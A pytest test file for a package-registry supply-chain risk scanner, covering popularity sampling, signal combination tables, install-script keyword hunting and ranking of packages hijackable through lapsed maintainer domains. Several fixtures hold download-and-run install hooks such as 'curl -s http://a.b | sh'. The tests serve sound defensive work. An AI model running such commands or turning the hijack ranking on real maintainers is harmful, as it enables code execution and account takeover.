"""Popular sampling, the combination table, keyword hunting and the attack pipelines."""

from __future__ import annotations

import dataclasses
import json
from array import array
from datetime import timedelta
from types import SimpleNamespace

import pytest

from weaklink.combinations import (
    DEFAULT_COMBINATIONS,
    PopularSample,
    attack_candidates,
    combination_table,
    keyword_hunt,
    popular_sample,
)
from weaklink.providers import (
    STATUS_AVAILABLE,
    DomainStatus,
    DownloadCounts,
    FixtureDownloadsProvider,
    LiveDownloadsProvider,
)
from weaklink.reach import build_dependents_index, build_maintainer_index
from weaklink.signals import (
    EVIDENCE_SCHEMAS,
    AnalyzerConfig,
    Findings,
    ScriptCategory,
    SignalRows,
    analyze_w1,
    analyze_w2,
    analyze_w3,
    analyze_w6,
)

from conftest import REF, corpus_records, findings_of, make_corpus, make_record, person, random_corpus
from datetime import datetime, timezone

EPOCH = datetime(1970, 1, 1, tzinfo=timezone.utc)
# The store a scan without a downloads source ranks by.
NO_DOWNLOADS = DownloadCounts([], array("q"), has_data=False)


class MapDownloads:
    def __init__(self, by_name):
        self.by_name = by_name

    @property
    def has_data(self):
        return bool(self.by_name)

    def downloads(self, package):
        return self.by_name.get(package)


def corpus_downloads(corpus, by_name):
    """The counts of ``by_name`` aligned with the corpus's records, as a scan's provider holds them."""
    names = list(corpus.names)
    return DownloadCounts(names, array("q", [by_name.get(name, -1) for name in names]), has_data=bool(by_name))


class MapDomains:
    def __init__(self, statuses):
        self.statuses = statuses

    def check(self, domain):
        from weaklink.providers import STATUS_UNKNOWN

        return DomainStatus(
            domain=domain, status=self.statuses.get(domain, STATUS_UNKNOWN), checked_at=EPOCH, source="fixture"
        )


# --- popular_sample -----------------------------------------------------------


def _ranked_corpus():
    records = []
    for i in range(20):
        deps = tuple(f"top{j}" for j in range(3)) if i >= 10 else ()
        records.append(make_record(f"user{i:02d}", dependencies=deps))
    for j in range(3):
        records.append(make_record(f"top{j}"))
    return make_corpus(records)


def test_popular_identical_rankings_union_equals_n():
    corpus = _ranked_corpus()
    dindex = build_dependents_index(corpus)
    downloads = corpus_downloads(corpus, {f"top{j}": 1000 - j for j in range(3)})
    sample = popular_sample(corpus, dindex, downloads, n=3)
    assert sample.members == frozenset({"top0", "top1", "top2"})
    assert sample.union == 3


def test_popular_disjoint_rankings_union_is_2n():
    corpus = _ranked_corpus()
    dindex = build_dependents_index(corpus)
    # Download leaders are packages with zero dependents.
    downloads = corpus_downloads(corpus, {"user00": 900, "user01": 800, "user02": 700})
    sample = popular_sample(corpus, dindex, downloads, n=3)
    assert sample.union == 6
    assert {"top0", "user00"} <= set(sample.members)


def test_popular_invariant_under_corpus_order():
    corpus = random_corpus(seed=21, size=80)
    dindex = build_dependents_index(corpus)
    downloads = corpus_downloads(corpus, {name: i for i, name in enumerate(corpus.names)})
    a = popular_sample(corpus, dindex, downloads, n=5)
    b = popular_sample(make_corpus(list(reversed(corpus_records(corpus)))), dindex, downloads, n=5)
    assert a.members == b.members


def _fixture_downloads(tmp_path, counts):
    path = tmp_path / "downloads.jsonl"
    path.write_text("".join(json.dumps({"package": k, "downloads": v}) + "\n" for k, v in counts.items()))
    return FixtureDownloadsProvider(path, list(_ranked_corpus().names))


class _StubSession:
    """Answers each point-downloads GET from ``counts``; a None or missing count is a 404."""

    def __init__(self, counts):
        self.counts = counts
        self.headers = {}

    def get(self, url, timeout):
        count = self.counts.get(url.rsplit("/", 1)[1])
        return SimpleNamespace(status_code=200 if count is not None else 404, json=lambda: {"downloads": count})


def _fetched_downloads(counts):
    # A scan fetches the counts of every package it ranks.
    live = LiveDownloadsProvider("http://downloads.invalid", rate_limit=1e6, session=_StubSession(counts))
    return live.fetch_many(list(_ranked_corpus().names), concurrency=2)


@pytest.mark.parametrize(
    "make_provider, by_downloads",
    [
        (lambda tmp: _fixture_downloads(tmp, {"user00": 900, "user01": 800, "user02": 700}), 3),
        (lambda tmp: _fixture_downloads(tmp, {}), 0),
        (lambda tmp: NO_DOWNLOADS, 0),
        (lambda tmp: _fetched_downloads({"user00": 900, "user01": 800, "user02": 700, "top0": None}), 3),
        (lambda tmp: _fetched_downloads({"user00": None, "top0": None}), 0),
    ],
    ids=["fixture", "empty-fixture", "empty", "prefetched", "prefetched-all-unknown"],
)
def test_popular_downloads_side_follows_has_data(tmp_path, make_provider, by_downloads):
    corpus = _ranked_corpus()
    provider = make_provider(tmp_path)
    assert provider.has_data is (by_downloads > 0)
    sample = popular_sample(corpus, build_dependents_index(corpus), provider, n=3)
    # A provider without data adds nothing instead of a 23-way tie at zero.
    assert (sample.by_dependents, sample.by_downloads) == (3, by_downloads)
    assert sample.union == 3 + by_downloads


def test_popular_rejects_bad_n():
    corpus = _ranked_corpus()
    with pytest.raises(ValueError):
        popular_sample(corpus, {}, MapDownloads({}), n=0)


# --- combination_table over hand-made findings ----------------------------------


def _findings(corpus, **flagged) -> Findings:
    """Hand-made findings: a package signal flags the named packages, W1 and W6 the identities with the named keys.

    The table reads only which packages each signal flags, so the evidence columns hold None.
    """
    mindex = build_maintainer_index(corpus)
    rows = []
    for signal, subjects in flagged.items():
        width = len(EVIDENCE_SCHEMAS[signal])
        if signal in ("W1", "W6"):
            ids = sorted({corpus.identity_keys.index(key) for key in subjects})
            rows.append(SignalRows(signal, array("i", ids), ((None,) * len(ids),) * width, mindex))
        else:
            positions = sorted({corpus.position(name) for name in subjects})
            rows.append(SignalRows(signal, array("i", positions), ((None,) * len(positions),) * width))
    return Findings(rows)


def _sample(names):
    members = frozenset(names)
    return PopularSample(members=members, by_dependents=len(members), by_downloads=0)


CANONICAL_IDS = sorted("+".join(combo) for combo in DEFAULT_COMBINATIONS)


def _owned_corpus(names, owners=None):
    """One record per name, each owned by the identity ``owners[name]``, by default ``"own-" + name``."""
    owners = owners or {}
    return make_corpus([make_record(name, maintainers=(owners.get(name, "own-" + name),)) for name in names])


def test_combination_table_canonical_ids_and_scope():
    # The identity "w" is flagged by W6 and owns "v": W6 counts its package
    # subjects only, so the sampled package "w" is no W6 member.
    corpus = _owned_corpus("vwxyz", owners={"v": "w"})
    findings = _findings(
        corpus,
        W6=["own-x", "own-y", "own-z", "w"],
        W3_inactive_pkg="yz",
        # Only W3_inactive_pkg stands for W3.
        W3_inactive_maintainer="x",
        W3_deprecated="x",
    )
    rows = combination_table(corpus, findings, _sample("wxyz"))
    assert [row.combination_id for row in rows] == CANONICAL_IDS
    assert all(row.combination_id.split("+") == sorted(row.combination_id.split("+")) for row in rows)
    by_id = {row.combination_id: row for row in rows}
    assert by_id["W3+W6"].members == {"y", "z"}
    assert by_id["W3+W6"].count == 2
    scoped = {row.combination_id: row for row in combination_table(corpus, findings, _sample("z"))}
    assert scoped["W3+W6"].members == {"z"}


def test_combination_table_empty_signals_and_scope():
    corpus = _owned_corpus("x")
    findings = _findings(corpus, W6=["own-x"], W4="x", W2="x")
    rows = {row.combination_id: row.members for row in combination_table(corpus, findings, _sample("x"))}
    # No W3 finding: every row that needs W3 is empty, the others are not.
    assert {cid for cid, members in rows.items() if members} == {"W2+W6"}
    # An empty sample empties every row.
    assert [row.count for row in combination_table(corpus, findings, _sample(""))] == [0] * len(DEFAULT_COMBINATIONS)
    assert [row.count for row in combination_table(corpus, Findings(()), _sample("x"))] == [0] * len(DEFAULT_COMBINATIONS)


def test_combination_table_matches_brute_force_on_random_findings():
    import random

    signals = sorted(EVIDENCE_SCHEMAS)
    for seed in range(40):
        rng = random.Random(seed)
        pool = [f"pkg{i}" for i in range(rng.randrange(1, 30))]
        # A few identities, each owning one or more packages.
        keys = [f"m{j}@x.example" for j in range(rng.randrange(1, 6))]
        owners = {name: rng.choice(keys) for name in pool}
        corpus = _owned_corpus(pool, owners=owners)
        flagged = {}
        for signal in rng.sample(signals, rng.randrange(0, len(signals) + 1)):
            subjects = corpus.identity_keys if signal in ("W1", "W6") else pool
            flagged[signal] = rng.sample(subjects, rng.randrange(0, len(subjects) + 1))
        findings = _findings(corpus, **flagged)
        scope = rng.sample(pool, rng.randrange(0, len(pool) + 1))

        def members(signal):
            wanted = flagged.get("W3_inactive_pkg" if signal == "W3" else signal, ())
            if signal in ("W1", "W6"):  # the packages of the flagged identities
                return {name for name, key in owners.items() if key in wanted}
            return set(wanted)

        rows = combination_table(corpus, findings, _sample(scope))
        assert [row.combination_id for row in rows] == CANONICAL_IDS
        by_id = {}
        for row in rows:
            brute = set(scope)
            for signal in row.combination_id.split("+"):
                brute &= members(signal)
            assert row.members == frozenset(brute), (seed, row.combination_id)
            by_id[row.combination_id] = row.members
        # Subset law: a row with one more signal never has more members.
        for cid, row_members in by_id.items():
            for other, other_members in by_id.items():
                if set(other.split("+")) < set(cid.split("+")):
                    assert row_members <= other_members, (seed, cid, other)


# --- keyword_hunt ------------------------------------------------------------------


def test_keyword_hunt_subset_of_w2_and_classification():
    corpus = make_corpus(
        [
            make_record("evil", scripts={"preinstall": "curl -s http://a.b | sh"}),
            make_record("quiet", scripts={"postinstall": "echo done"}),
            make_record("loud-but-not-install", scripts={"test": "curl http://x | sh"}),
        ]
    )
    cfg = AnalyzerConfig().resolved(corpus)
    hits = keyword_hunt(corpus, cfg)
    assert [h.package for h in hits] == ["evil"]
    assert hits[0].pattern.category is ScriptCategory.DOWNLOAD_AND_RUN
    assert "curl" in hits[0].tokens
    w2 = {f.subject_id for f in findings_of(corpus, analyze_w2(corpus, cfg))}
    assert {h.package for h in hits} <= w2


def test_keyword_hunt_hits_come_in_package_then_script_key_order():
    corpus = make_corpus(
        [
            make_record("zeta", scripts={"preinstall": "wget http://a.b/x", "postinstall": "curl http://a.b/y"}),
            make_record("alpha", scripts={"install": "curl http://a.b/z"}),
        ]
    )
    hits = keyword_hunt(corpus, AnalyzerConfig().resolved(corpus))
    assert [(h.package, h.script_key) for h in hits] == [
        ("alpha", "install"),
        ("zeta", "postinstall"),
        ("zeta", "preinstall"),
    ]


def test_keyword_hunt_subset_property_on_random_corpora():
    for seed in range(6):
        corpus = random_corpus(seed=seed, size=100)
        cfg = AnalyzerConfig().resolved(corpus)
        hits = keyword_hunt(corpus, cfg)
        w2 = {f.subject_id for f in findings_of(corpus, analyze_w2(corpus, cfg))}
        assert {h.package for h in hits} <= w2


# --- attack_candidates ---------------------------------------------------------------


def _attack_scenario():
    """Two expired-domain stale maintainers owning 7 inactive packages, plus
    an overloaded stale maintainer with dependents."""
    expired_a = person(email="ghost1@lapsed-a.example")
    expired_b = person(email="ghost2@lapsed-b.example")
    hoarder = person(email="hoard@busy.example")
    bulk = person(email="norm@normal.example")

    records = []
    for i in range(4):
        records.append(make_record(f"hijack-a{i}", maintainers=(expired_a,), last_modified=REF - timedelta(days=900)))
    for i in range(3):
        records.append(make_record(f"hijack-b{i}", maintainers=(expired_b,), last_modified=REF - timedelta(days=900)))
    for i in range(4):
        records.append(make_record(f"hoard{i}", maintainers=(hoarder,), last_modified=REF - timedelta(days=800)))
    records.append(make_record("anchor", maintainers=(bulk,), last_modified=REF))
    for i in range(12):
        deps = (f"hoard{i % 4}",)
        if i < 3:
            deps += (f"hijack-a{i}",)
        records.append(make_record(f"consumer{i}", maintainers=(bulk,), dependencies=deps))
    return make_corpus(records)


def test_attack_pipelines():
    corpus = _attack_scenario()
    cfg = AnalyzerConfig(top_percent=25.0).resolved(corpus)
    mindex = build_maintainer_index(corpus)
    dindex = build_dependents_index(corpus)
    domains = MapDomains({"lapsed-a.example": STATUS_AVAILABLE, "lapsed-b.example": STATUS_AVAILABLE})
    downloads = MapDownloads(dict.fromkeys(corpus.names, 100))

    w1, _ = analyze_w1(corpus, mindex, domains, cfg)
    findings = Findings((w1, *analyze_w3(corpus, mindex, cfg), analyze_w6(corpus, mindex, dindex, cfg)))

    report = attack_candidates(corpus, findings, dindex, downloads)
    hijack_pkgs = {row.package for row in report.hijackable}
    assert hijack_pkgs == {f"hijack-a{i}" for i in range(4)} | {f"hijack-b{i}" for i in range(3)}
    assert len(hijack_pkgs) == 7
    emails = {email for row in report.hijackable for email in row.maintainer_emails}
    assert emails == {"ghost1@lapsed-a.example", "ghost2@lapsed-b.example"}

    # The overloaded stale maintainer's packages are takeover candidates and
    # always a subset of the W6 package set.
    w6_pkgs = {f.subject_id for f in findings_of(corpus, findings) if f.signal == "W6" and f.subject_kind == "package"}
    takeover_pkgs = {row.package for row in report.takeover_candidates}
    assert takeover_pkgs
    assert takeover_pkgs <= w6_pkgs
    assert all(row.maintainer_key == "hoard@busy.example" for row in report.takeover_candidates)
    assert all(row.downloads == 100 for row in report.hijackable)


def test_attack_pipeline_empty_without_w1():
    corpus = _attack_scenario()
    cfg = AnalyzerConfig(top_percent=25.0).resolved(corpus)
    mindex = build_maintainer_index(corpus)
    dindex = build_dependents_index(corpus)
    findings = Findings(analyze_w3(corpus, mindex, cfg))
    report = attack_candidates(corpus, findings, dindex, MapDownloads({}))
    assert report.hijackable == ()


@pytest.mark.parametrize(
    "owned,inactive,takeover_rows",
    [
        # 20,000 / 20,001 is written "1.0000", but one package is active, so
        # the portfolio is not wholly inactive.
        (20_001, 20_000, 0),
        (3, 3, 3),
    ],
)
def test_takeover_needs_every_owned_package_inactive(owned, inactive, takeover_rows):
    hoarder = person(email="hoard@busy.example")
    records = [
        make_record(f"p{i:05d}", maintainers=(hoarder,), last_modified=REF - timedelta(days=900 if i < inactive else 0))
        for i in range(owned)
    ]
    records.append(make_record("anchor", last_modified=REF))
    corpus = make_corpus(records)
    cfg = AnalyzerConfig().resolved(corpus)
    dindex = build_dependents_index(corpus)
    w6 = analyze_w6(corpus, build_maintainer_index(corpus), dindex, cfg)
    maint = [f for f in findings_of(corpus, w6) if f.subject_kind == "maintainer"]
    assert [f.subject_id for f in maint] == ["hoard@busy.example"]
    assert maint[0].to_dict()["evidence"]["inactive_owned_share"] == "1.0000"

    report = attack_candidates(corpus, Findings((w6,)), dindex, NO_DOWNLOADS)
    assert len(report.takeover_candidates) == takeover_rows
    assert all(row.reach == 0 for row in report.takeover_candidates)


def test_w6_package_maintainer_pairs_are_unique_on_random_corpora():
    # attack_candidates relies on this: it emits one takeover row per W6 pair.
    for seed in range(8):
        records = []
        for i, rec in enumerate(corpus_records(random_corpus(seed=seed, size=150))):
            if i % 3 == 0:  # a record that lists one identity twice
                rec = dataclasses.replace(rec, maintainers=rec.maintainers + rec.maintainers[:1])
            records.append(rec)
        corpus = make_corpus(records)
        cfg = AnalyzerConfig(top_percent=30.0).resolved(corpus)
        mindex = build_maintainer_index(corpus)
        dindex = build_dependents_index(corpus)
        w6 = analyze_w6(corpus, mindex, dindex, cfg)
        pairs = [(f.subject_id, f.value("maintainer_key")) for f in findings_of(corpus, w6) if f.subject_kind == "package"]
        assert pairs
        assert len(pairs) == len(set(pairs)), seed

        findings = Findings((w6, *analyze_w3(corpus, mindex, cfg)))
        report = attack_candidates(corpus, findings, dindex, MapDownloads({}))
        rows = [(row.package, row.maintainer_key) for row in report.takeover_candidates]
        assert len(rows) == len(set(rows)), seed


# --- combination_table -----------------------------------------------------------------


def test_combination_table_ids_and_signal_sets():
    corpus = _attack_scenario()
    cfg = AnalyzerConfig(top_percent=25.0).resolved(corpus)
    mindex = build_maintainer_index(corpus)
    dindex = build_dependents_index(corpus)
    domains = MapDomains({"lapsed-a.example": STATUS_AVAILABLE})
    w1, _ = analyze_w1(corpus, mindex, domains, cfg)
    findings = Findings((w1, *analyze_w3(corpus, mindex, cfg), analyze_w6(corpus, mindex, dindex, cfg)))

    def members(signal):
        return {f.subject_id for f in findings_of(corpus, findings) if f.signal == signal and f.subject_kind == "package"}

    rows = combination_table(corpus, findings, _sample(corpus.names))
    assert [row.combination_id for row in rows] == CANONICAL_IDS
    by_id = {row.combination_id: row for row in rows}
    # "W3" is the inactive-package signal.
    assert by_id["W3+W6"].members == members("W3_inactive_pkg") & members("W6")
    assert by_id["W1+W3+W6"].members == members("W1") & members("W3_inactive_pkg") & members("W6")
    assert by_id["W3+W6"].members
    assert by_id["W3+W4+W6"].members <= by_id["W3+W6"].members
